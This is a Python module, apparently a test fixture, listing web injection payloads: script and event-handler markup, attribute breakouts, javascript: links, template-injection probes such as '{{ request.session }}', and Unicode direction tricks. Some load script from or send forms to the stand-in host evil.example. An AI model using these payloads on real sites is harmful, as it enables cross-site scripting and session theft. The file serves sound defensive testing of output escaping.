"""Words that try to be more than words. Each that would become a part of the page names `evil` in that part."""

from collections.abc import Iterator

MARKUP = (
    "<script>evil()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=evil()>",
    "<svg/onload=evil()>",
    "<svg><script>evil()</script></svg>",
    "<body onload=evil()>",
    '<iframe srcdoc="<script>evil()</script>">',
    "<iframe src=//evil.example>",
    "<math><mtext><x-evil></math>",
    "</textarea><x-evil>",
    "</title><x-evil>",
    "</script><script>evil()</script>",
    "</style><x-evil>",
    "--><x-evil><!--",
    "]]><x-evil>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>",
    "<object data=//evil.example>",
    '<noscript><p title="</noscript><x-evil>">',
    "<details open ontoggle=evil()>",
    "<input autofocus onfocus=evil()>",
    "<style>*{background:url(//evil.example)}</style>",
    "<!-- evil -->",
    "<b data-evil>bold</b>",
    "<<x-evil>>",
    "<x-evil ",
    "&lt;x-evil&gt;",
    "&#60;x-evil&#62;",
    "＜x-evil＞",
)
ATTRIBUTES = (
    '" onmouseover="evil()',
    "' onmouseover='evil()",
    "` onmouseover=`evil()",
    '"><x-evil>',
    "'><x-evil>",
    'x" evil="1',
    "x' evil='1",
    '" style="position:fixed',
    '" autofocus onfocus="evil()',
)
LINKS = (
    "<a href=javascript:evil()>",
    "javascript:evil()",
    "JaVaScRiPt:evil()",
    "data:text/html,<x-evil>",
    "vbscript:evil()",
    "//evil.example/",
    "https://evil.example/",
    "\\\\evil.example",
)
SCRIPT_AND_STYLE = (
    "';evil();//",
    '";evil();//',
    "\\');evil();//",
    "${evil()}",
    "\\u003cx-evil\\u003e",
    "expression(evil())",
    "};*{color:red}",
    "url(javascript:evil())",
)
MARKDOWN = (
    "[evil](javascript:evil())",
    "![evil](//evil.example/x.png)",
    "<https://evil.example>",
    "`<x-evil>`",
)
TEMPLATES = (
    "evil{{ 1300|add:37 }}",
    "evil{{7*191}}",
    "{% debug %}",
    "{{ request.session }}",
    '{% include "overview/home.html" %}',
    '<c-note words="evil"></c-note>',
    "%(name)s %s",
    "{0.__class__}",
)
LETTERS = (
    "\u202egnp.live",  # right to left from here
    "\u2067evil\u2069",
    "e\u200bv\u200di\ufeffl",
    "𝖊𝖛𝖎𝖑 👩🏽‍🤝‍👨🏿",
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *LINKS, *SCRIPT_AND_STYLE, *MARKDOWN, *TEMPLATES, *LETTERS)


def texts_of(longest: int) -> Iterator[str]:
    """All payloads that fit into `longest` characters, as few texts as hold them."""
    text = ""
    for payload in PAYLOADS:
        if len(payload) > longest:
            continue
        if len(text) + 1 + len(payload) > longest:
            yield text
            text = payload
        else:
            text = f"{text} {payload}".strip()
    yield text
